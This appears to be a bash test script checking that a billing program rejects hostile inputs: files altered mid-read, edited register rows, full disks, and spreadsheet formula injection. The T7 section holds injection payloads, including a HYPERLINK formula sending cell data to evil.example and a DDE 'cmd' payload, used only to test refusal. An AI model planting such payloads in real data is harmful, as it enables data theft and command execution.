#!/usr/bin/env bash
# Hostile inputs, round b (issue 16): inputs that change while the run reads
# them (R1, R2) and text that spreadsheets read as something else (T7, T8),
# last year's fees.csv that lost a service (L4), a record whose register rows
# were edited (K1). Each case runs the built program and looks at what it
# wrote and said.
source "$(dirname "$0")/lib.sh"
cd "$WORK"
fresh() { rm -rf in out && mkdir in && cp -r "$SRC/input/2025" in/2025; }
run_in() { # run_in CMD [options]: check or run on in/ into out/, stderr to err.txt
  local cmd=$1; shift
  set +e
  "$PROG" "$cmd" --year 2025 --input in --output out "$@" >out.txt 2>err.txt
  rc=$?
  set -e
}
have_strace() { command -v strace >/dev/null && strace -f -o /dev/null true 2>/dev/null; }
have_gdb() { command -v gdb >/dev/null && [ -z "${IP_WRAPPER:-}" ]; }

# --- R1: a statistics file cut or grown while it is read -------------------
# Every read() is slowed down (strace) so that the cut lands mid-file; the
# run must refuse (65) and write nothing, never issue fees from a part.
r1_case() { # r1_case NAME ACTION
  local name=$1 action=$2 pid
  fresh
  $PY - <<'PY'
p='in/2025/calls.csv'; l=open(p).read().splitlines()
open(p,'w').write('\n'.join([l[0]]+l[1:]*40)+'\n')
PY
  cp in/2025/calls.csv calls.full
  rm -f st.txt
  set +e
  # (LeakSanitizer cannot run under ptrace: an ASan build checks no leaks here)
  ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 \
    strace -f -o st.txt -e trace=openat,read -e inject=read:delay_exit=20000 \
    "$REAL_PROG" run --year 2025 --input in --output out >out.txt 2>err.txt &
  pid=$!
  set -e
  for _ in $(seq 600); do grep -q 'calls.csv' st.txt 2>/dev/null && break; sleep 0.05; done
  sleep 0.2
  case $action in
    cut) # at a line's end: what is left is a well-formed, shorter file
      truncate -s "$($PY -c "d=open('calls.full','rb').read(); print(d.index(b'\n', len(d)*2//5)+1)")" in/2025/calls.csv ;;
    grow) tail -n 2000 calls.full >>in/2025/calls.csv ;;
  esac
  set +e; wait "$pid"; rc=$?; set -e
  if [ "$rc" != 65 ]; then
    fail "R1 $name: exit $rc, expected 65"; sed 's/^/#   /' err.txt | head -3
  elif ! grep -q "^in/2025/calls.csv: expected a file that stays the same while it is read" err.txt; then
    fail "R1 $name: message"; sed 's/^/#   /' err.txt | head -3
  elif [ -e out/2025 ] || [ -e out/issued/2025 ]; then
    fail "R1 $name: something was written"
  else
    ok "R1 $name: 65, nothing written"
  fi
}
if have_strace; then
  r1_case "calls.csv truncated while read" cut
  r1_case "calls.csv appended to while read" grow
else
  echo "ok - R1 skipped: strace cannot trace here"
fi
# a file touched while read (same bytes, a new modification time) also fails:
# not checked here, the timing needs the same slowed read as above.

# --- R2: tariff.xml and customers.csv read once ----------------------------
# The register is replaced (saved by rename, as editors do) at the moment its
# reader is freed: the run has parsed it, and the digest recorded must be of
# the bytes parsed, not of the file that lies there afterwards.
if have_gdb; then
  fresh
  orig=$(sha256sum in/2025/customers.csv | cut -d' ' -f1)
  sed 's/Valnämnden/Valnämnden EDITED/' in/2025/customers.csv >cust.new
  cat >g.cmd <<EOG
set pagination off
set confirm off
break ip_csv_free
run run --year 2025 --input in --output out
shell cp cust.new in/2025/customers.tmp && mv in/2025/customers.tmp in/2025/customers.csv
delete
continue
EOG
  ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 \
    gdb -q -batch -x g.cmd "$REAL_PROG" >gdb.txt 2>&1 || true
  if ! cmp -s cust.new in/2025/customers.csv || [ ! -f out/2025/report.txt ]; then
    fail "R2: the swap or the run did not happen"; tail -5 gdb.txt | sed 's/^/#   /'
  elif grep -q EDITED out/2025/fees.csv; then
    fail "R2: the run used the register saved after it was read"
  elif ! grep -q "customers.csv .* sha256 $orig" out/2025/report.txt; then
    fail "R2: report.txt names a digest of a register the run did not use"
    grep 'customers.csv ' out/2025/report.txt | sed 's/^/#   /'
  else
    ok "R2: the digest of customers.csv is that of the bytes used"
  fi
else
  echo "ok - R2 skipped: no gdb (or a wrapper)"
fi
# each of the two files is opened once by a run
if have_strace; then
  fresh
  ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 \
    strace -f -o st.txt -e trace=openat "$REAL_PROG" run --year 2025 --input in --output out >/dev/null 2>&1
  check "R2: tariff.xml opened once" [ "$(grep -c 'in/2025/tariff.xml"' st.txt)" = 1 ]
  check "R2: customers.csv opened once" [ "$(grep -c 'in/2025/customers.csv"' st.txt)" = 1 ]
fi

# --- T7: a name that a spreadsheet takes for a formula ---------------------
# fees.csv and ledger.csv carry names as they are: such a name is refused
# where it enters, by check as by run, and nothing is written.
for sign in '=' '+' '-' '@'; do
  fresh
  case $sign in
    '=') new='"=HYPERLINK(""http://evil.example/?""&A1,""Valnämnden"")"' ;;
    '+') new="+cmd|' /C calc'!A0" ;;
    '-') new='-2+3' ;;
    '@') new='@SUM(1+1)' ;;
  esac
  NEW=$new $PY - <<'PY'
import os
p = 'in/2025/customers.csv'; d = open(p, encoding='utf-8').read()
open(p, 'w', encoding='utf-8').write(d.replace('Valnämnden', os.environ['NEW'], 1))
PY
  line=$(grep -n -m1 -F -- "$new" in/2025/customers.csv | cut -d: -f1)
  for cmd in check run; do
    run_in $cmd
    if [ "$rc" != 65 ]; then
      fail "T7 '$sign' ($cmd): exit $rc, expected 65"; head -3 err.txt | sed 's/^/#   /'
    elif ! grep -q "^in/2025/customers.csv:$line: expected a name that does not start with '$sign' (a spreadsheet" err.txt; then
      fail "T7 '$sign' ($cmd): message"; head -3 err.txt | sed 's/^/#   /'
    elif [ -e out ]; then
      fail "T7 '$sign' ($cmd): something was written"
    else
      ok "T7 a name starting with '$sign' ($cmd): 65, nothing written"
    fi
  done
done
# inside a name the signs are fine
fresh
sed -i 's/Valnämnden/Valnämnden =SUM(1) +46 -x @hem/' in/2025/customers.csv
run_in run
check "T7: signs inside a name are accepted" [ "$rc" = 0 ]
check "T7: and reach fees.csv as they are" grep -q ';Valnämnden =SUM(1) +46 -x @hem;' out/2025/fees.csv

# --- T8: _xHHHH_ in a name is shown as written in the workbook -------------
fresh
sed -i 's/Valnämnden/Valn_x00E4_mnden_x000D_X/' in/2025/customers.csv
run_in run
check "T8: a name with _xHHHH_ is accepted" [ "$rc" = 0 ]
check "T8: every cell of the workbook that names the customer shows the text as written" \
  $PY - out/2025/prislista-2025.xlsx <<'PY'
import re, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
# a reader's view of the text nodes: OOXML decodes _xHHHH_ (ECMA-376 ST_Xstring)
def shown(t):
    return re.sub(r'_x([0-9A-Fa-f]{4})_', lambda m: chr(int(m.group(1), 16)), t)
texts = []
for n in z.namelist():
    if n.startswith('xl/') and n.endswith('.xml'):
        texts += re.findall(r'<t(?: [^>]*)?>([^<]*)</t>', z.read(n).decode('utf-8'))
cells = [shown(t) for t in texts if 'Valn' in shown(t) or 'Valn' in t]
assert cells, 'the customer is not in the workbook'
assert all('Valn_x00E4_mnden_x000D_X' in c for c in cells), cells
assert not any('\r' in c or 'Valnämnden' in c for c in cells), cells
PY

# --- L4: last year's fees.csv without a service's rows ---------------------
fresh
"$PROG" run --year 2025 --input in --output prev >/dev/null 2>&1
mkdir -p out/2024
sed 's/^2025;/2024;/' prev/2025/fees.csv | grep -v '^2024;direkt;' >out/2024/fees.csv
run_in run
check "L4: a run with a service missing from last year's fees.csv succeeds" [ "$rc" = 0 ]
check "L4: and warns naming the service, the file and the previous-fee" \
  grep -q "warning: direkt: 2024/fees.csv has no rows for it, the tariff's previous-fee is 2 980 000 kr; its 2024 columns show '–'" err.txt
check "L4: report.txt has the warning too" grep -q "direkt: 2024/fees.csv has no rows for it" out/2025/report.txt
head -n 1 prev/2025/fees.csv >out/2024/fees.csv
rm -rf out/2025 out/issued
run_in run
check "L4: a header-only fees.csv of last year warns for every service that had a fee" \
  bash -c "grep -c 'fees.csv has no rows for it' err.txt | grep -qx 3"

# --- K1: a register row edited in its dates, run or number -----------------
# The record's load reads each row against its stored document (and the run
# column against the rows around it): check and run refuse with the row's
# line, nothing written.
fresh
"$PROG" run --year 2025 --input in --output base >/dev/null 2>&1
k1_case() { # k1_case NAME LINE SED-EXPRESSION "EXPECTED TEXT"
  local name=$1 at=$2 expr=$3 want=$4 cmd before
  for cmd in check run; do
    rm -rf out && cp -a base out
    sed -i "$expr" out/issued/2025/register.csv
    before=$(tree_digest out)
    run_in $cmd
    if [ "$rc" != 65 ]; then
      fail "K1 $name ($cmd): exit $rc, expected 65"; head -3 err.txt | sed 's/^/#   /'
    elif ! grep -qF "out/issued/2025/register.csv:$at: expected $want" err.txt; then
      fail "K1 $name ($cmd): message"; head -3 err.txt | sed 's/^/#   /'
    elif [ "$(tree_digest out)" != "$before" ]; then
      fail "K1 $name ($cmd): the output changed"
    else
      ok "K1 $name edited ($cmd): 65 naming the row"
    fi
  done
}
k1_case issue_date 2 '2s/;2025-01-15;2025-02-14;/;2025-01-16;2025-02-14;/' "issue_date 2025-01-15"
k1_case due_date 2 '2s/;2025-01-15;2025-02-14;/;2025-01-15;2025-02-15;/' "due_date 2025-02-14"
k1_case number 2 '2s/^KC2025-108;/KC2025-1080;/' "number 'KC2025-108'"
k1_case "run of the first row" 2 '2s/;;0;O;0;/;;1;O;0;/' "run 0 (the record's first run) for document 'KC2025-108'"
k1_case "run of a row in the middle" 3 '3s/;;0;O;0;/;;1;O;0;/' "run 0 at most"
k1_case "run of the last row" 40 '40s/;;0;\([OS]\);/;;2;\1;/' "run 0 or 1"

# --- E1: no inode left is a full disk (74), as no space left is ------------
ns=
for try in "unshare -m" "unshare -rm"; do
  if $try sh -c "mount -t tmpfs -o size=64k tmpfs '$WORK' && umount '$WORK'" 2>/dev/null; then ns=$try; break; fi
done
if [ -z "$ns" ] || [ -n "${IP_WRAPPER:-}" ]; then
  echo "ok - E1 skipped: no tmpfs in a mount namespace of our own"
else
  fresh
  for n in 20 60; do
    rm -rf out && mkdir out
    set +e
    $ns sh -c 'mount -t tmpfs -o "size=20m,nr_inodes=$1" tmpfs out && exec "$2" run --year 2025 --input in --output out' _ \
      "$n" "$PROG" >out.txt 2>err.txt
    rc=$?
    set -e
    if [ "$rc" != 74 ]; then
      fail "E1 $n inodes: exit $rc, expected 74"; head -2 err.txt | sed 's/^/#   /'
    elif ! grep -q "^out/.*: cannot create: No space left on device" err.txt; then
      fail "E1 $n inodes: message"; head -2 err.txt | sed 's/^/#   /'
    else
      ok "E1 no inode left after $n files: 74, the final path named"
    fi
  done
fi

finish
